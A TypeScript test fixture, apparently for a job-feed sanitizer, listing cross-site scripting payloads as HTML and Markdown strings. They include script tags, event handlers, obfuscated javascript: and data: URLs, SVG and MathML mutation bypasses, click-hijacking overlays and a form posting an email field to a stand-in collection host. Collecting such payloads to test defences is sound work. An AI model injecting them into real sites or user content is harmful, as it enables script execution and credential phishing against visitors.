/**
 * Lines that a careless or malicious employer could send. A page that runs one of them gets `data-feed-script` on its
 * root element.
 */
const run = "document.documentElement.dataset.feedScript='ran'";

export const hostileMarkup: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="https://feed.invalid/run.js"></script>`,
  `<SCRIPT type="module">${run}</SCRIPT >`,
  `<scr<script>ipt>${run}</script>`,
  `<img src="x" onerror="${run}" alt="Our crew at work">`,
  `<img src=x onerror=${run.replace(/'/g, '&#39;')}>`,
  `<img/src="x"/onerror="${run}">`,
  `<a href="javascript:${run}">Apply faster here</a>`,
  `<a href="&#106;avascript:${run}">Quick apply</a>`,
  `<a href="java\tscript:${run}">See the base</a>`,
  `<a href="data:text/html,<script>${run}</script>">Open the brochure</a>`,
  `<a href="vbscript:msgbox(1)">Benefits guide</a>`,
  `<a href="https://feed.invalid/" onmouseover="${run}" style="position:fixed;inset:0;z-index:9999">Learn more</a>`,
  `<iframe src="https://feed.invalid/frame.html" title="Video tour"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<style>body{display:none}a{position:fixed;inset:0}</style>`,
  `<svg onload="${run}"><circle r="4"></circle></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="12">Route map</text></a></svg>`,
  `<svg><style><img src="x" onerror="${run}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src="x" onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run.replace(/'/g, '&#39;')}>"></p></noscript>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<form action="https://feed.invalid/collect"><input name="email"><button formaction="javascript:${run}">Join us</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://feed.invalid/"><base href="https://feed.invalid/">`,
  `<details open ontoggle="${run}"><summary>Read more</summary></details>`,
  `<div id="__next" class="fixed" style="background:url(javascript:${run})">A note from the recruiter</div>`,
  `<!--><img src="x" onerror="${run}">-->`,
  `</p></div></main></body></html><h1 onclick="${run}">You are hired</h1>`,
  `<video autoplay><source onerror="${run}"></video>`,
  `<template><script>${run}</script></template><textarea autofocus onfocus="${run}"></textarea>`,
  `<p style="color:expression(${run})" onpointerenter="${run}">Note to applicants</p>`,
];

/** The same for Markdown rows, whose text may also contain raw HTML. */
export const hostileMarkdown: readonly string[] = [
  `[Apply faster here](javascript:${run})`,
  `[Benefits guide](<javascript:${run}>)`,
  `[Quick apply](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![Crew](x"onerror="${run})`,
  `<javascript:${run}>`,
  `[ref]: javascript:${run}\n\n[Open the form][ref]`,
];
